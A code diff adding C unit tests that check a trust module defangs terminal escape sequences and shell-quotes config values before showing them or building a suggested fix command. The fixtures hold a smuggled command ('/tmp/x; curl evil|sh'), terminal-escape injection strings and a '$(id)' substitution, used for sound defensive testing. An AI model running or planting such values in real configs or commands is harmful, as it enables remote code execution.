@@ -14,6 +14,7 @@
 #include "host_dirs.h"
 #include "pins.h"
 #include "registry.h"
+#include "text.h"
 #include "trust.h"
 
 static char home[64];
@@ -333,4 +334,38 @@ Test(trust, own_dirs_not_below_what_the_sandbox_writes)
 		  err.msg);
 	cr_assert_eq(trust_check_own_dirs("/h/oc/state", "/h/oc", "/h/oc/state/ws", &err), -1);
 	cr_assert(strstr(err.msg, "lies in the config dir /h/oc"), "%s", err.msg);
+}
+
+/* The payload writes the config: its words reach a person's terminal in the
+ * drift message, and its path goes into a command a person may paste. */
+Test(trust, drift_shows_the_payloads_words_defanged_and_quoted)
+{
+	struct instance inst = pinned_instance();
+	struct trust_drift d[TRUST_DRIFT_MAX];
+
+	snprintf(inst.config_workspace, sizeof(inst.config_workspace),
+		 "/tmp/x; curl evil|sh #\x1b]0;t\a'");
+	cr_assert_eq(port_block_add_explicit(&inst.config_ports, 40000,
+					     "browser.profiles.x\x1b[2K\rok.cdpPort", NULL),
+		     0);
+	cr_assert_eq(trust_drift_find(&inst, d, TRUST_DRIFT_MAX), 2);
+	cr_assert_str_eq(d[0].config_value, "/tmp/x; curl evil|sh #?]0;t?'");
+	cr_assert_str_eq(d[0].fix, "openclaw-run --profile main setup --workspace "
+				   "'/tmp/x; curl evil|sh #?]0;t?'\\'''");
+	cr_assert_str_eq(d[1].key, "browser.profiles.x?[2K?ok.cdpPort");
+	cJSON_Delete(inst.config);
+}
+
+Test(trust, shell_words)
+{
+	char out[64];
+
+	text_shell_quote("/srv/bot-1/ws", out, sizeof(out));
+	cr_assert_str_eq(out, "/srv/bot-1/ws");
+	text_shell_quote("/srv/my bot/$(id)", out, sizeof(out));
+	cr_assert_str_eq(out, "'/srv/my bot/$(id)'");
+	text_shell_quote("it's", out, sizeof(out));
+	cr_assert_str_eq(out, "'it'\\''s'");
+	text_shell_quote("", out, sizeof(out));
+	cr_assert_str_eq(out, "''");
 }
